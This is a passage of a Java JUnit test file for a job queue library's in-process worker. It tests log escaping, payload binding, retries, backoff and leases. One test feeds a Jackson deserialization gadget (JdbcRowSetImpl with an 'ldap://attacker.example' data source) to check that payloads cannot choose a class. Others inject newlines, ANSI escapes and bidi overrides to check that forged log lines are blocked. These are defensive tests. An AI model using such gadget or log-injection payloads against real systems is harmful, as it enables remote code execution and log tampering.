            List<String> written = lines.list.stream().map(line -> line.getFormattedMessage()).toList();
            assertThat(written).as("completed, threw, failed and retried, dead")
                    .anySatisfy(line -> assertThat(line)
                            .startsWith("job runs-\\u202etxt.exe (report:send) completed on attempt 1"))
                    .anySatisfy(line -> assertThat(line).startsWith("job fails-\\u202etxt.exe attempt 1 threw"))
                    .anySatisfy(line -> assertThat(line).startsWith("job fails-\\u202etxt.exe (report:send) on queue "
                            + "'default' attempt 1 failed: IllegalStateException: the handler failed; retrying in"))
                    .anySatisfy(line -> assertThat(line).startsWith("job fails-\\u202etxt.exe (report:send) on queue "
                            + "'default' attempt 2 is dead: IllegalStateException: the handler failed (attempt 2 of 2)"))
                    .allSatisfy(line -> assertThat(line).doesNotContain("\u202e"));
        } finally {
            attemptLog.detachAppender(lines);
            attemptLog.setLevel(level);
        }
    }

    @Test
    @DisplayName("the worker's WARN of a failed attempt writes a line separator (U+2028) in a job's id and a paragraph "
            + "separator (U+2029) in its type as escapes: raw, a log viewer or a JavaScript console broke the line there "
            + "and showed the rest as a line of its own")
    void lineAndParagraphSeparatorsInAJobsIdAndTypeAreEscapedInTheWorkersWarning() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        // neither is a control character, so a type with one is registered and an id with one is read
        jobs.registerJobHandler("report:\u2029send", Work.class, (job, ctx) -> {
            throw new IllegalStateException("the handler failed");
        }, Backoff.fixed(Duration.ZERO));
        var lines = new CapturedLog();
        lines.start();
        var attemptLog = (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("dev.jobq.internal.worker.AttemptRun");
        attemptLog.addAppender(lines);
        try {
            provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "job-1\u2028WARN job-2 forged",
                    "report:\u2029send", "{\"n\":1}", new JobOptions(2, JobOptions.DEFAULT_TIMEOUT, 0, null,
                    JobOptions.DEFAULT_QUEUE), 0, Instant.now(), null, null), Duration.ZERO);
            jobs.start();
            events.awaitCount(JobEvent.Dead.class, 1);

            assertThat(lines.warnings()).anySatisfy(line -> assertThat(line).startsWith("job job-1\\u2028WARN "
                    + "job-2 forged (report:\\u2029send) on queue 'default' attempt 1 failed: IllegalStateException: "
                    + "the handler failed; retrying"));
            assertThat(lines.list).extracting(line -> line.getFormattedMessage())
                    .allSatisfy(line -> assertThat(line).doesNotContain("\u2028").doesNotContain("\u2029"));
        } finally {
            attemptLog.detachAppender(lines);
        }
    }

    @Test
    @DisplayName("the worker's lines (started, an attempt failed, dead) write a bidirectional override (U+202E) in "
            + "a queue's name as an escape: a queue name may hold one, and raw it showed the rest of the line reversed")
    void bidirectionalOverrideInAQueuesNameIsEscapedInTheWorkersLines() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = fixture.closeLater(JobQueue.builder()
                .queue("rep\u202eorts", new KeepOpen(provider))
                .concurrency(2)
                .backoff(Backoff.none())
                .listener(events)
                .build());
        jobs.registerJobHandler("report:send", Work.class, (job, ctx) -> {
            throw new IllegalStateException("the handler failed");
        }, Backoff.fixed(Duration.ZERO));
        var lines = new CapturedLog();
        lines.start();
        List<ch.qos.logback.classic.Logger> loggers = List.of(
                (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("dev.jobq.internal.worker.AttemptRun"),
                (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("dev.jobq.internal.worker.Worker"));
        List<ch.qos.logback.classic.Level> levels = loggers.stream().map(logger -> logger.getLevel()).toList();
        loggers.forEach(logger -> {
            logger.setLevel(ch.qos.logback.classic.Level.INFO);
            logger.addAppender(lines);
        });
        try {
            provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "job-1", "report:send", "{\"n\":1}",
                    new JobOptions(2, JobOptions.DEFAULT_TIMEOUT, 0, null, "rep\u202eorts"), 0, Instant.now(),
                    null, null), Duration.ZERO);
            jobs.start();
            events.awaitCount(JobEvent.Dead.class, 1);

            List<String> written = lines.list.stream().map(line -> line.getFormattedMessage()).toList();
            assertThat(written).as("started, failed and retried, dead")
                    .anySatisfy(line -> assertThat(line)
                            .isEqualTo("jobq worker started: queues [default, rep\\u202eorts], concurrency 2"))
                    .anySatisfy(line -> assertThat(line).startsWith("job job-1 (report:send) on queue "
                            + "'rep\\u202eorts' attempt 1 failed: IllegalStateException: the handler failed; retrying"))
                    .anySatisfy(line -> assertThat(line).startsWith("job job-1 (report:send) on queue "
                            + "'rep\\u202eorts' attempt 2 is dead: IllegalStateException: the handler failed"))
                    .allSatisfy(line -> assertThat(line).doesNotContain("\u202e"));
        } finally {
            for (int i = 0; i < loggers.size(); i++) {
                loggers.get(i).detachAppender(lines);
                loggers.get(i).setLevel(levels.get(i));
            }
        }
    }

    @Test
    @DisplayName("the threads of a queue whose name holds a bidirectional override (U+202E) are named with it escaped: "
            + "a log layout that prints the thread's name (%thread) showed the rest of each line reversed")
    void threadsOfAQueueWithABidiOverrideInItsNameAreNamedWithItEscaped() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = fixture.closeLater(JobQueue.builder()
                .queue("rep\u202eorts", new KeepOpen(provider))
                .concurrency(2)
                .backoff(Backoff.none())
                .listener(events)
                .build());
        var handlerThread = new java.util.concurrent.atomic.AtomicReference<String>();
        jobs.registerJobHandler("report:send", Work.class, (job, ctx) -> handlerThread.set(Thread.currentThread()
                .getName()));
        provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "job-1", "report:send", "{\"n\":1}",
                new JobOptions(1, JobOptions.DEFAULT_TIMEOUT, 0, null, "rep\u202eorts"), 0, Instant.now(),
                null, null), Duration.ZERO);
        jobs.start();
        events.awaitCount(JobEvent.Completed.class, 1);

        assertThat(handlerThread.get()).startsWith("jobq-worker-rep\\u202eorts-");
        assertThat(Thread.getAllStackTraces().keySet()).extracting(Thread::getName)
                .filteredOn(name -> name.startsWith("jobq-"))
                .allSatisfy(name -> assertThat(name).doesNotContain("\u202e"));
    }

    @Test
    @DisplayName("a payload that does not bind to the handler's type is dead-lettered with the reason")
    void unreadablePayloadIsDeadLettered() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> { });
        jobs.start();
        jobs.enqueue("work", Map.of("n", "not a number"));

        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        assertThat(dead.error()).startsWith("payload cannot be read as dev.jobq.memory.InProcessWorkerTest$Work: ");
        assertThat(dead.attempt()).isEqualTo(1);
    }

    record Untyped(Object data, Map<String, Object> meta, java.math.BigDecimal amount) {
    }

    @Test
    @DisplayName("a payload cannot choose a class: '@class' in an Object or Map field binds to a map, and a "
            + "100 000-digit number for a BigDecimal is refused at once, before any parsing of its digits")
    void untrustedPayloadsChooseNoClassAndAreBounded() {
        var provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        var bound = new java.util.concurrent.CopyOnWriteArrayList<Untyped>();
        jobs.registerJobHandler("untyped", Untyped.class, (job, ctx) -> bound.add(job.payload()));
        jobs.start();
        Map<String, Object> gadget = Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
                "dataSourceName", "ldap://attacker.example/x", "autoCommit", true);
        jobs.enqueue("untyped", Map.of("data", gadget, "meta", Map.of("x", gadget), "amount", "1.5"));
        // As another producer sends it: enqueue refuses a payload its mapper cannot read back (PayloadBindingTest).
        String huge = "huge-amount";
        provider.enqueue(new JobEnvelope(1, huge, "untyped", "{\"amount\":" + "9".repeat(100_000) + "}",
                JobOptions.defaults(), 0, Instant.now(), null, null), Duration.ZERO);

        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        events.awaitCount(JobEvent.Completed.class, 1);
        assertThat(bound).singleElement().satisfies(payload -> {
            assertThat(payload.data()).isInstanceOf(Map.class).isEqualTo(gadget);
            assertThat(payload.meta().get("x")).isInstanceOf(Map.class).isEqualTo(gadget);
        });
        assertThat(dead.jobId()).isEqualTo(huge);
        assertThat(dead.error()).contains("Number value length (100000) exceeds the maximum allowed (1000")
                .hasSizeLessThan(2000);
    }

    record Line(String sku, int quantity) {
    }

    record Order(List<Line> lines) {
    }

    @Test
    @DisplayName("a payload field that does not bind is named in the dead letter's reason, with its path and value")
    void unreadablePayloadFieldIsNamed() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("order", Order.class, (job, ctx) -> { });
        jobs.start();
        jobs.enqueue("order", Map.of("lines", List.of(Map.of("sku", "a", "quantity", 1),
                Map.of("sku", "b", "quantity", "many"))));

        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        assertThat(dead.error())
                .startsWith("payload cannot be read as dev.jobq.memory.InProcessWorkerTest$Order: field 'lines[1].quantity': ")
                .contains("\"many\"");
    }

    @Test
    @DisplayName("a payload value or field name that does not bind is quoted in the reason escaped: a newline or an "
            + "ANSI escape a producer put in it forges no log line (docs/wire-format.md, A reason quotes the message "
            + "safely)")
    void unreadablePayloadValueIsQuotedEscaped() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> { });
        jobs.registerJobHandler("counts", new TypeReference<Map<String, Integer>>() { }, (job, ctx) -> { });
        jobs.start();
        jobs.enqueue("work", Map.of("n", "1\n12:00:00.000 INFO  Worker - forged\u001b[2J"));
        jobs.enqueue("counts", Map.of("a\nforged\u001b[2J", "many"));

        List<JobEvent.Dead> dead = events.awaitCount(JobEvent.Dead.class, 2);
        assertThat(dead).extracting(JobEvent.Dead::error)
                .anySatisfy(error -> assertThat(error).startsWith("payload cannot be read as ")
                        .contains("\"1\\n12:00:00.000 INFO  Worker - forged\\u001b[2J\""))
                .anySatisfy(error -> assertThat(error).contains("field 'a\\nforged\\u001b[2J': "))
                .allSatisfy(error -> assertThat(error).doesNotContain("\n", "\u001b"));
    }

    @Test
    @DisplayName("heartbeats keep a job that runs past its lease from being delivered twice")
    void heartbeatsKeepLongJobsLeased() {
        // A lease of 1 s, heartbeats 333 ms apart: with 300 ms, one heartbeat 200 ms late (a loaded core's) let the
        // lease run out, and the job ran twice.
        JobQueue jobs = queue(memoryProvider(Map.of("leaseDuration", "1s")), 2, Duration.ofSeconds(5));
        var runs = new AtomicInteger();
        jobs.registerJobHandler("long", Work.class, (job, ctx) -> {
            runs.incrementAndGet();
            // Simulated work three times as long as the lease.
            assertThat(new CountDownLatch(1).await(3, TimeUnit.SECONDS)).isFalse();
        });
        jobs.start();
        jobs.enqueue("long", new Work(1));

        events.awaitCount(JobEvent.Completed.class, 1);
        assertThat(runs).hasValue(1);
        assertThat(events.all(JobEvent.Started.class)).hasSize(1);
    }

    @Test
    @DisplayName("a retried job runs again after its backoff with the next attempt number")
    void retriesWithNextAttempt() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("flaky", Work.class, (job, ctx) -> {
            if (job.attempt() < 3) {
                throw new IllegalStateException("attempt " + job.attempt() + " fails");
            }
        });
        jobs.start();
        jobs.enqueue("flaky", new Work(1));

        JobEvent.Completed done = events.awaitCount(JobEvent.Completed.class, 1).get(0);
        assertThat(done.attempt()).isEqualTo(3);
        assertThat(events.all(JobEvent.Failed.class)).extracting(JobEvent.Failed::error)
                .containsExactly("IllegalStateException: attempt 1 fails", "IllegalStateException: attempt 2 fails");
        assertThat(jobs.stats("default").completed()).isEqualTo(1);
        assertThat(jobs.stats("default").failed()).isEqualTo(2);
    }

    @Test
    @DisplayName("a backoff that throws or returns null still settles the failed attempt: retried after the "
            + "worker's default backoff, with a Failed event")
    void brokenBackoffStillSettlesTheAttempt() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 2, Duration.ofSeconds(5));
        jobs.registerJobHandler("throwing", Work.class, (job, ctx) -> {
            throw new IllegalStateException("handler fails");
        }, failedAttempt -> {
            throw new IllegalStateException("backoff fails");
        });
        jobs.registerJobHandler("nothing", Work.class, (job, ctx) -> {
            throw new IllegalStateException("handler fails");
        }, failedAttempt -> null);
        jobs.start();
        // Two attempts: one Failed each, its retry (at once) then dead.
        String throwing = jobs.enqueue("throwing", new Work(1), EnqueueOptions.builder().maxAttempts(2).build());
        String nothing = jobs.enqueue("nothing", new Work(2), EnqueueOptions.builder().maxAttempts(2).build());

        List<JobEvent.Failed> failed = events.awaitCount(JobEvent.Failed.class, 2);
        assertThat(failed).extracting(JobEvent.Failed::jobId).containsExactlyInAnyOrder(throwing, nothing);
        // The worker's default backoff (the fixture's Backoff.none()), not the built-in one's 1 s.
        assertThat(failed).extracting(JobEvent.Failed::retryIn)
                .allSatisfy(delay -> assertThat(delay).isEqualTo(Duration.ZERO));
        await().atMost(EventRecorder.WAIT).until(() -> provider.getJob(throwing).orElseThrow().state() != JobState.ACTIVE
                && provider.getJob(nothing).orElseThrow().state() != JobState.ACTIVE);
    }

    @Test
    @DisplayName("a backoff that returns a negative delay retries a timed-out attempt at once")
    void negativeBackoffAfterATimeoutRetriesAtOnce() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofSeconds(5));
        jobs.registerJobHandler("slow", Work.class, (job, ctx) -> {
            if (job.attempt() == 1) {
                new CountDownLatch(1).await();
            }
        }, failedAttempt -> Duration.ofSeconds(-1));
        jobs.start();
        String id = jobs.enqueue("slow", new Work(1), EnqueueOptions.builder().timeout(Duration.ofMillis(100)).build());

        List<JobEvent.Completed> done = events.awaitCount(JobEvent.Completed.class, 1);
        assertThat(done).extracting(JobEvent.Completed::jobId, JobEvent.Completed::attempt).containsExactly(tuple(id, 2));
        assertThat(events.all(JobEvent.Failed.class)).extracting(JobEvent.Failed::retryIn).containsExactly(Duration.ZERO);
    }

    /** A payload whose reading on a handler thread runs {@link #reading} first. */
    record Held(int n) {
        static volatile Runnable reading = () -> { };

        Held {
            if (Thread.currentThread().getName().startsWith("jobq-worker-")) {
                reading.run();
            }
        }
    }

    /**
     * A provider whose poll loop receives one job at first and then waits until close() interrupts it.
     * The interrupt tells the test that close() has begun: the worker stops before it interrupts its loops.
     */
    static class ShowsCloseBegun extends ForwardingQueueProvider {
        final CountDownLatch loopWaits = new CountDownLatch(1);
        final CountDownLatch closeBegun = new CountDownLatch(1);
        private final AtomicBoolean received = new AtomicBoolean();

        ShowsCloseBegun(QueueProvider delegate) {
            super(delegate);
        }

        @Override
        public List<ReceivedJob> receive(int max, Duration wait) {
            if (!Thread.currentThread().getName().startsWith("jobq-poll-")) {
                return delegate().receive(max, wait);
            }
            if (!received.getAndSet(true)) {
                return delegate().receive(1, wait);
            }
            loopWaits.countDown();
            try {
                if (!new CountDownLatch(1).await(EventRecorder.WAIT.toMillis(), TimeUnit.MILLISECONDS)) {
                    throw new AssertionError("close() did not interrupt the poll loop");
                }
            } catch (InterruptedException e) {
                closeBegun.countDown();
                Thread.currentThread().interrupt();
            }
            return List.of();
        }
    }

    /** Waits for {@code latch} up to {@link EventRecorder#WAIT}, through interrupts (restored after). */
    private static void awaitBounded(CountDownLatch latch) {
        long deadline = System.nanoTime() + EventRecorder.WAIT.toNanos();
        boolean interrupted = false;
        try {
            while (true) {
                try {
                    if (!latch.await(deadline - System.nanoTime(), TimeUnit.NANOSECONDS)) {
                        throw new AssertionError("not signalled within " + EventRecorder.WAIT);
                    }
                    return;
                } catch (InterruptedException e) {
                    interrupted = true;
                }
            }
        } finally {
            if (interrupted) {
                Thread.currentThread().interrupt();
            }
        }
    }

    private static void awaitIgnoringInterrupts(CountDownLatch latch) {
        while (true) {
            try {
                latch.await();
                return;
            } catch (InterruptedException ignoredOnPurpose) {
                // This handler simulates code that swallows interrupts.
            }
        }
    }
}
